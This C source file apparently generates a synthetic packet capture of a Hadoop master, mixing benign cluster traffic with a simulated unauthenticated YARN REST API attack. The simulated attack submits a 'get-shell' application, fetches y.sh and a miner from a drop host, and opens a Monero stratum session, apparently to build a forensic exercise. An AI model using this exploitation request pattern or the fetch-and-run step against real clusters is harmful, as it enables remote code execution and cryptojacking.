/* SPDX-License-Identifier: Apache-2.0 */
/*
 * net.c - the traffic mirror of hadoop-master for the day: monitoring polls of the
 * ResourceManager REST API, Airflow's hourly ETL submissions (as user etl), the admin's
 * browsing of the web UI, NTP and apt; the attacker's unauthenticated new-application and
 * apps submissions on port 8088, the container's download of y.sh and the miner, the pool
 * lookup and the stratum session on port 3333, killed at 09:40 and restarted by cron.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "notes.h"
#include "out.h"
#include "rng.h"
#include "timefmt.h"
#include "ym.h"

#define US 1000000LL

static const uint8_t MASTER_MAC[6] = {0x0e, 0x51, 0x2a, 0x7c, 0x10, 0x0a};
static const uint8_t GW_MAC[6] = {0x0e, 0x51, 0x2a, 0x00, 0x00, 0x01};

struct net {
    struct ym_world *yw;
    struct pcap_writer *w;
    struct pcap_host me, resolver;
    uint16_t port;
    int running_apps;             /* the attacker's, for the metrics */
    size_t marks[32];
    const char *what[32];
    int64_t when[32];             /* µs */
    int nmarks;
};

static struct pcap_host remote(const char *ip, uint8_t ttl)
{
    return pcap_host_make(ip, GW_MAC, ttl);
}

static uint16_t eport(struct net *n)
{
    uint16_t p = n->port;
    n->port = (uint16_t)(p >= 60999 ? 32768 : p + 1 + rng_n(5));
    return p;
}

/* Cite the next frame in the notes. */
static void mark(struct net *n, int64_t t_us, const char *what)
{
    if (n->nmarks == 32)
        die("too many marks");
    n->marks[n->nmarks] = pcap_mark(n->w);
    n->what[n->nmarks] = what;
    n->when[n->nmarks] = t_us;
    n->nmarks++;
}

static void exchange(struct pcap_tcp *s, const char *method, const char *uri, const char *ua,
                     const char *hdrs, const char *body, int code, const char *rhdrs,
                     const char *rbody, int64_t think)
{
    struct sb rq = {0}, rs = {0};
    pcap_http_req(&rq, method, uri, "10.0.5.10:8088", ua, hdrs, body, body ? strlen(body) : 0);
    pcap_tcp_send(s, 1, rq.p, rq.n);
    pcap_tcp_wait(s, think);
    pcap_http_resp(&rs, s->t, code, NULL, rbody ? "application/json" : NULL, rhdrs, rbody,
                   rbody ? strlen(rbody) : 0);
    pcap_tcp_send(s, 0, rs.p, rs.n);
    free(rq.p);
    free(rs.p);
}

#define RM_HDRS "Cache-Control: no-cache\r\nExpires: Tue, 08 Sep 2026 00:00:00 GMT\r\n" \
    "Pragma: no-cache\r\nX-Content-Type-Options: nosniff\r\nX-XSS-Protection: 1; mode=block\r\n"

static void metrics(struct net *n, struct sb *b, int64_t t)
{
    int etl = (t / US - n->yw->day0) % 3600 < 600;
    int apps = etl + n->running_apps;
    sb_reset(b);
    sb_f(b, "{\"clusterMetrics\":{\"appsSubmitted\":%u,\"appsCompleted\":%u,\"appsPending\":0,"
         "\"appsRunning\":%d,\"appsFailed\":0,\"appsKilled\":0,\"reservedMB\":0,"
         "\"availableMB\":%d,\"allocatedMB\":%d,\"reservedVirtualCores\":0,"
         "\"availableVirtualCores\":%d,\"allocatedVirtualCores\":%d,\"containersAllocated\":%d,"
         "\"containersReserved\":0,\"containersPending\":0,\"totalMB\":32768,"
         "\"totalVirtualCores\":16,\"totalNodes\":2,\"lostNodes\":0,\"unhealthyNodes\":0,"
         "\"decommissioningNodes\":0,\"decommissionedNodes\":0,\"rebootedNodes\":0,"
         "\"activeNodes\":2,\"shutdownNodes\":0}}",
         n->yw->first_seq - 1 + (unsigned)((t / US - n->yw->day0) / 3600) + 1,
         n->yw->first_seq - 1 + (unsigned)((t / US - n->yw->day0) / 3600), apps,
         32768 - 2048 * apps - 4096 * etl, 2048 * apps + 4096 * etl, 16 - apps - 2 * etl,
         apps + 2 * etl, apps + 2 * etl);
}

/* Monitoring: GET /ws/v1/cluster/metrics every two minutes, one connection per hour. */
static void monitoring(struct net *n)
{
    struct pcap_host mon = remote(YM_MONITOR_IP, 63);
    struct sb body = {0};
    for (int h = 0; h < 24; h++) {
        struct pcap_tcp s;
        int64_t t = (n->yw->day0 + h * 3600 + 11) * US + rng_range(0, 900000);
        pcap_tcp_start(&s, n->w, t, 300, &mon, (uint16_t)rng_range(40000, 60000), &n->me, 8088);
        int64_t step = 120 / n->yw->scale > 0 ? 120 / n->yw->scale : 1;
        for (int k = 0; k * step < 3590; k++) {
            if (k)
                pcap_tcp_wait(&s, (t + k * step * US) - s.t);
            n->running_apps = 0;
            for (int i = 0; i < YM_NHOSTS; i++)
                n->running_apps += s.t / US > n->yw->host[i].launch;
            metrics(n, &body, s.t);
            exchange(&s, "GET", "/ws/v1/cluster/metrics", "Go-http-client/1.1",
                     "Accept: application/json\r\nAccept-Encoding: gzip\r\n", NULL, 200, RM_HDRS,
                     body.p, rng_range(900, 4000));
        }
        pcap_tcp_close(&s, 1);
    }
    free(body.p);
}


/* Airflow's hourly ETL job: new-application, submit, then poll its state. */
static void etl(struct net *n, int h)
{
    struct ym_world *yw = n->yw;
    struct pcap_host af = remote(YM_AIRFLOW_IP, 63);
    struct pcap_tcp s;
    struct sb b = {0}, body = {0};
    char app[64], loc[160];
    ym_app(app, sizeof app, yw, ym_etl_seq(yw, h));
    int64_t t = (ym_at(yw, h, 5, 0) * US) + rng_range(0, 2000000);
    pcap_tcp_start(&s, n->w, t, 350, &af, (uint16_t)rng_range(40000, 60000), &n->me, 8088);
    sb_f(&b, "{\"application-id\":\"%s\",\"maximum-resource-capability\":{\"memory\":8192,"
         "\"vCores\":4,\"resourceInformations\":{\"resourceInformation\":[{\"maximumAllocation\""
         ":8192,\"minimumAllocation\":0,\"name\":\"memory-mb\",\"resourceType\":\"COUNTABLE\","
         "\"units\":\"Mi\",\"value\":8192},{\"maximumAllocation\":4,\"minimumAllocation\":0,"
         "\"name\":\"vcores\",\"resourceType\":\"COUNTABLE\",\"units\":\"\",\"value\":4}]}}}", app);
    exchange(&s, "POST", "/ws/v1/cluster/apps/new-application?user.name=etl",
             "python-requests/2.31.0", "Accept: application/json\r\n", "", 200, RM_HDRS, b.p,
             rng_range(3000, 12000));
    sb_f(&body, "{\"application-id\":\"%s\",\"application-name\":\"etl-orders-hourly-%02d\","
         "\"queue\":\"etl\",\"priority\":0,\"am-container-spec\":{\"commands\":{\"command\":\""
         YM_MR_CMD "\"},\"environment\":{\"entry\":[{\"key\":\"CLASSPATH\",\"value\":"
         "\"{{CLASSPATH}}<CPS>./*<CPS>{{HADOOP_CONF_DIR}}<CPS>{{HADOOP_COMMON_HOME}}/share/hadoop/"
         "common/*\"}]}},\"unmanaged-AM\":false,\"max-app-attempts\":2,\"resource\":{\"memory\":"
         "2048,\"vCores\":1},\"application-type\":\"MAPREDUCE\",\"keep-containers-across-"
         "application-attempts\":false}", app, h);
    snprintf(loc, sizeof loc, "Location: http://10.0.5.10:8088/ws/v1/cluster/apps/%s\r\n", app);
    pcap_tcp_wait(&s, rng_range(50000, 200000));
    exchange(&s, "POST", "/ws/v1/cluster/apps?user.name=etl", "python-requests/2.31.0",
             "Accept: application/json\r\nContent-Type: application/json\r\n", body.p, 202, loc,
             NULL, rng_range(8000, 30000));
    int polls = (int)rng_range(9, 17);
    for (int i = 0; i < polls; i++) {
        char uri[128];
        const char *st = i == polls - 1 ? "{\"state\":\"FINISHED\"}" : "{\"state\":\"RUNNING\"}";
        pcap_tcp_wait(&s, 30 * US);
        snprintf(uri, sizeof uri, "/ws/v1/cluster/apps/%s/state?user.name=etl", app);
        exchange(&s, "GET", uri, "python-requests/2.31.0", "Accept: application/json\r\n",
                 NULL, 200, RM_HDRS, st, rng_range(1500, 5000));
    }
    pcap_tcp_close(&s, 1);
    free(b.p);
    free(body.p);
}

/* The admin looks at the web UI (text/html pages and a stylesheet). */
static void admin_ui(struct net *n, int64_t t, const char *app_page)
{
    struct pcap_host ad = remote(YM_ADMIN_IP, 63);
    struct pcap_tcp s;
    const char *pages[] = {"/cluster", "/cluster/apps/RUNNING", "/static/yarn.css", app_page};
    pcap_tcp_start(&s, n->w, t, 400, &ad, (uint16_t)rng_range(40000, 60000), &n->me, 8088);
    for (int i = 0; i < 4 && pages[i]; i++) {
        struct sb rq = {0}, rs = {0}, body = {0};
        int css = strstr(pages[i], ".css") != NULL;
        pcap_http_req(&rq, "GET", pages[i], "10.0.5.10:8088", "Mozilla/5.0 (X11; Linux x86_64; "
                      "rv:128.0) Gecko/20100101 Firefox/128.0",
                      "Accept: text/html,application/xhtml+xml\r\n", NULL, 0);
        if (css) {
            sb_s(&body, "table.display { width: 100%; }\n.ui-widget-header { border: 0; }\n");
        } else {
            sb_f(&body, "<!DOCTYPE html><html><head><title>%s</title><link rel=\"stylesheet\" "
                 "href=\"/static/yarn.css\"></head><body><h1>%s</h1><table class=\"display\">",
                 pages[i], pages[i]);
            for (int r = 0; r < 40; r++)
                sb_f(&body, "<tr><td>row %d</td><td>%u</td></tr>", r, (unsigned)rng_n(9999));
            sb_s(&body, "</table></body></html>");
        }
        pcap_tcp_send(&s, 1, rq.p, rq.n);
        pcap_tcp_wait(&s, rng_range(3000, 20000));
        pcap_http_resp(&rs, s.t, 200, NULL, css ? "text/css" : "text/html; charset=utf-8",
                       RM_HDRS, body.p, body.n);
        pcap_tcp_send(&s, 0, rs.p, rs.n);
        pcap_tcp_wait(&s, rng_range(300000, 9000000));
        free(rq.p);
        free(rs.p);
        free(body.p);
    }
    pcap_tcp_close(&s, 1);
}

static void dns(struct net *n, int64_t t, const char *name, const char *cname, const char *ip)
{
    uint32_t a = pcap_host_make(ip, GW_MAC, 64).ip;
    uint16_t id = (uint16_t)rng_u64();
    uint16_t port = eport(n);
    pcap_dns(n->w, t, rng_range(400, 2000), &n->me, port, &n->resolver, id, name, 1, 0, cname,
             &a, 1, 300);
}

/* Benign host traffic: NTP every 1024 s, apt-daily's index checks. */
static void host_background(struct net *n)
{
    struct pcap_host ntp = remote("185.125.190.57", 55);
    unsigned char q[48];
    dns(n, (n->yw->day0 + 1) * US, "ntp.ubuntu.com", NULL, "185.125.190.57");
    for (int64_t t = (n->yw->day0 + 2) * US; t < (n->yw->day0 + 86390) * US;
         t += 1024 * US + rng_range(-900000, 900000)) {
        int64_t rtt = rng_range(12000, 25000);
        memset(q, 0, sizeof q);
        q[0] = 0x23;                              /* NTPv4, client */
        q[2] = 10;
        q[3] = 0xe7;
        pcap_udp(n->w, t, &n->me, 123, &ntp, 123, q, 48);
        q[0] = 0x24;                              /* NTPv4, server, stratum 2 */
        q[1] = 2;
        q[3] = 0xe9;
        memcpy(q + 12, "\x11\x5b\x25\x0c", 4);
        pcap_udp(n->w, t + rtt, &ntp, 123, &n->me, 123, q, 48);
    }
    int64_t t = ym_at(n->yw, 6, 31, 7) * US;
    dns(n, t, "deb.debian.org", "debian.map.fastly.net", "151.101.130.132");
    struct pcap_host deb = remote("151.101.130.132", 57);
    struct pcap_tcp s;
    pcap_tcp_start(&s, n->w, t + 3000, 9000, &n->me, eport(n), &deb, 80);
    const char *idx[] = {"/debian/dists/bookworm/InRelease",
                         "/debian/dists/bookworm-updates/InRelease"};
    for (int i = 0; i < 2; i++) {
        struct sb rq = {0}, rs = {0};
        pcap_http_req(&rq, "GET", idx[i], "deb.debian.org", "Debian APT-HTTP/1.3 (2.6.1)",
                      "If-Modified-Since: Sat, 05 Sep 2026 09:12:44 GMT\r\n", NULL, 0);
        pcap_http_resp(&rs, s.t + 20000, 304, "Apache", NULL, "Via: 1.1 varnish\r\n", NULL, 0);
        pcap_http(&s, rq.p, rq.n, rng_range(12000, 30000), rs.p, rs.n);
        free(rq.p);
        free(rs.p);
    }
    pcap_tcp_close(&s, 1);
}

/* The attacker's two submissions, each: cluster info, new-application, apps. */
static void submissions(struct net *n)
{
    struct ym_world *yw = n->yw;
    struct pcap_host att = remote(YM_SUBMIT_IP, 49);
    static const int order[2] = {YM_WORKER, YM_MASTER};
    for (int k = 0; k < 2; k++) {
        struct ym_host *h = &yw->host[order[k]];
        struct pcap_tcp s;
        struct sb b = {0}, body = {0};
        char app[64], loc[160];
        ym_app(app, sizeof app, yw, h->app_seq);
        int64_t t = (yw->submit + 6 * k) * US + rng_range(0, 400000);
        pcap_tcp_start(&s, n->w, t, 88000, &att, (uint16_t)rng_range(40000, 60000), &n->me,
                       8088);
        if (k == 0)
            exchange(&s, "GET", "/ws/v1/cluster/info", "python-requests/2.25.1",
                     "Accept: */*\r\n", NULL, 200, RM_HDRS,
                     "{\"clusterInfo\":{\"id\":1788526338611,\"startedOn\":1788526338611,"
                     "\"state\":\"STARTED\",\"haState\":\"ACTIVE\",\"resourceManagerVersion\":"
                     "\"3.3.6\",\"hadoopVersion\":\"3.3.6\",\"haZooKeeperConnectionState\":"
                     "\"ResourceManager HA is not enabled.\"}}", 2100);
        sb_f(&b, "{\"application-id\":\"%s\",\"maximum-resource-capability\":{\"memory\":8192,"
             "\"vCores\":4}}", app);
        mark(n, s.t, k == 0 ? "unauthenticated POST /ws/v1/cluster/apps/new-application from "
             YM_SUBMIT_IP : "second POST /ws/v1/cluster/apps/new-application");
        exchange(&s, "POST", "/ws/v1/cluster/apps/new-application", "python-requests/2.25.1",
                 "Accept: */*\r\n", "", 200, RM_HDRS, b.p, 4200);
        pcap_tcp_wait(&s, 180000);
        sb_f(&body, "{\"application-id\":\"%s\",\"application-name\":\"get-shell\","
             "\"am-container-spec\":{\"commands\":{\"command\":\"" YM_CMD "\"}},"
             "\"application-type\":\"YARN\",\"max-app-attempts\":1}", app);
        snprintf(loc, sizeof loc, "Location: http://10.0.5.10:8088/ws/v1/cluster/apps/%s\r\n",
                 app);
        mark(n, s.t, k == 0 ? "POST /ws/v1/cluster/apps: application 'get-shell' as dr.who, "
             "command `" YM_CMD "` (202 Accepted); its AM lands on hadoop-worker-1"
             : "POST /ws/v1/cluster/apps: the same command again; this AM lands on "
             "hadoop-master");
        exchange(&s, "POST", "/ws/v1/cluster/apps", "python-requests/2.25.1",
                 "Accept: */*\r\nContent-Type: application/json\r\n", body.p, 202, loc, NULL,
                 15000);
        pcap_tcp_close(&s, 1);
        free(b.p);
        free(body.p);
    }
}

/* The container (or cron) on the master fetches y.sh and the miner; returns when done. */
static int64_t download(struct net *n, int64_t t, int again)
{
    struct pcap_host drop = remote(YM_DROP_IP, 50);
    struct pcap_tcp s;
    struct sb rq = {0}, rs = {0}, script = {0}, bin = {0};
    ym_script(&script, n->yw);
    mark(n, t, again ? "cron restarts the miner on hadoop-master: y.sh fetched again"
                     : "the container on hadoop-master fetches http://" YM_DROP_IP "/y.sh");
    pcap_tcp_start(&s, n->w, t, 92000, &n->me, eport(n), &drop, 80);
    pcap_http_req(&rq, "GET", "/y.sh", YM_DROP_IP, "curl/7.88.1", "Accept: */*\r\n", NULL, 0);
    pcap_http_resp(&rs, s.t + 1000, 200, "nginx/1.18.0", "application/octet-stream",
                   "Last-Modified: Mon, 07 Sep 2026 21:40:03 GMT\r\n", script.p, script.n);
    pcap_http(&s, rq.p, rq.n, 1000, rs.p, rs.n);
    pcap_tcp_close(&s, 1);
    /* The miner: a UPX-packed ELF (random bytes after the headers). */
    sb_add(&bin, "\x7f" "ELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00", 16);
    for (int i = 0; i < 30000; i++) {
        char c[25];
        rng_chars(c, 24, RNG_ALNUM);
        sb_add(&bin, c, 24);
        if (i == 10)
            sb_add(&bin, "UPX!", 4);
    }
    sb_reset(&rq);
    sb_reset(&rs);
    pcap_tcp_start(&s, n->w, s.t + 300000, 92000, &n->me, eport(n), &drop, 80);
    pcap_http_req(&rq, "GET", "/xm", YM_DROP_IP, "curl/7.88.1", "Accept: */*\r\n", NULL, 0);
    pcap_http_resp(&rs, s.t + 1000, 200, "nginx/1.18.0", "application/octet-stream",
                   "Last-Modified: Mon, 07 Sep 2026 21:39:51 GMT\r\n", bin.p, bin.n);
    pcap_http(&s, rq.p, rq.n, 1000, rs.p, rs.n);
    pcap_tcp_close(&s, 1);
    free(rq.p);
    free(rs.p);
    free(script.p);
    free(bin.p);
    return s.t;
}

/* The miner's stratum session from `t` to `end` (0: still open at the end of the capture). */
static void stratum(struct net *n, int64_t t, int64_t end, int first)
{
    struct ym_world *yw = n->yw;
    struct pcap_host pool = remote(YM_POOL_IP, 51);
    struct pcap_tcp s;
    struct sb m = {0};
    char sid[37], blob[153], seed[65], jid[17];
    int id = 1;
    dns(n, t, YM_POOL_HOST, NULL, YM_POOL_IP);
    mark(n, t + 4000, first ? "the miner connects to " YM_POOL_URL " (" YM_POOL_IP
         "), JSON-RPC login with the wallet" : "the restarted miner logs in to the pool again");
    pcap_tcp_start(&s, n->w, t + 4000, 41000, &n->me, eport(n), &pool, 3333);
    sb_f(&m, "{\"id\":%d,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\","
         "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\","
         "\"rigid\":\"hadoop-master\",\"algo\":[\"rx/0\",\"rx/wow\",\"rx/arq\",\"rx/graft\","
         "\"rx/sfx\",\"rx/keva\"]}}\n", id++, yw->wallet);
    pcap_tcp_send(&s, 1, m.p, m.n);
    rng_uuid(sid);
    rng_hex(blob, 152);
    rng_hex(seed, 64);
    rng_hex(jid, 16);
    sb_reset(&m);
    sb_f(&m, "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"%s\",\"job\":"
         "{\"blob\":\"%s\",\"job_id\":\"%s\",\"target\":\"b88d0600\",\"algo\":\"rx/0\","
         "\"height\":3412871,\"seed_hash\":\"%s\"},\"extensions\":[\"algo\",\"nicehash\","
         "\"connect\",\"tls\",\"keepalive\"],\"status\":\"OK\"}}\n", sid, blob, jid, seed);
    pcap_tcp_wait(&s, 60000);
    pcap_tcp_send(&s, 0, m.p, m.n);
    int64_t stop = end ? end : (yw->day0 + 86395) * US;
    int64_t next_job = s.t + rng_range(60, 150) * US;
    int64_t next_share = s.t + rng_range(10, 80) * US;
    int height = 3412871;
    for (;;) {
        int job = next_job < next_share;
        int64_t at = job ? next_job : next_share;
        if (at >= stop)
            break;
        pcap_tcp_wait(&s, at - s.t);
        sb_reset(&m);
        if (job) {
            rng_hex(blob, 152);
            rng_hex(jid, 16);
            sb_f(&m, "{\"jsonrpc\":\"2.0\",\"method\":\"job\",\"params\":{\"blob\":\"%s\","
                 "\"job_id\":\"%s\",\"target\":\"b88d0600\",\"algo\":\"rx/0\",\"height\":%d,"
                 "\"seed_hash\":\"%s\"}}\n", blob, jid, ++height, seed);
            pcap_tcp_send(&s, 0, m.p, m.n);
            next_job = s.t + rng_range(60, 150) * US;
        } else {
            char nonce[9], res[65];
            rng_hex(nonce, 8);
            rng_hex(res, 64);
            sb_f(&m, "{\"id\":%d,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":"
                 "\"%s\",\"job_id\":\"%s\",\"nonce\":\"%s\",\"result\":\"%s\",\"algo\":"
                 "\"rx/0\"}}\n", id, sid, jid, nonce, res);
            pcap_tcp_send(&s, 1, m.p, m.n);
            sb_reset(&m);
            sb_f(&m, "{\"id\":%d,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":"
                 "\"OK\"}}\n", id++);
            pcap_tcp_wait(&s, rng_range(40000, 60000));
            pcap_tcp_send(&s, 0, m.p, m.n);
            next_share = s.t + rng_range(8, 90) * US;
        }
    }
    if (end) {
        pcap_tcp_wait(&s, end - s.t);
        mark(n, s.t, "the admin kills the miner (sudo kill -9): its stratum session closes");
        pcap_tcp_close(&s, 1);
    }
    free(m.p);
}

void ym_net(struct ym_world *yw)
{
    struct net n;
    struct ym_host *m = &yw->host[YM_MASTER];
    char app[64];
    memset(&n, 0, sizeof n);
    n.yw = yw;
    n.w = pcap_new();
    n.me = pcap_host_make(m->ip, MASTER_MAC, 64);
    n.resolver = remote("10.0.0.2", 64);
    n.port = 35122;
    host_background(&n);
    monitoring(&n);
    for (int h = 0; h < 24; h++)
        etl(&n, h);
    admin_ui(&n, (ym_at(yw, 8, 12, 40)) * US, NULL);
    ym_app(app, sizeof app, yw, m->app_seq);
    char page[96];
    snprintf(page, sizeof page, "/cluster/app/%s", app);
    admin_ui(&n, (ym_at(yw, 9, 38, 55)) * US, page);
    submissions(&n);
    int64_t t = download(&n, (m->launch + 1) * US, 0);
    stratum(&n, t + 2500000, yw->kill * US, 1);
    t = download(&n, (m->restart + 1) * US + 220000, 1);
    stratum(&n, t + 2500000, 0, 0);

    pcap_save(n.w, YM_PCAP);
    for (int i = 0; i < n.nmarks; i++) {
        uint64_t fr, off;
        char where[160];
        pcap_locate(n.w, n.marks[i], &fr, &off);
        snprintf(where, sizeof where, YM_PCAP " frame %llu (record at byte %llu)",
                 (unsigned long long)fr, (unsigned long long)off);
        note_at(n.when[i] * 1000, where, "%s", n.what[i]);
    }
    yw->n_packets = pcap_packets(n.w);
    yw->n_bytes = pcap_bytes(n.w);
    pcap_free(n.w);
}
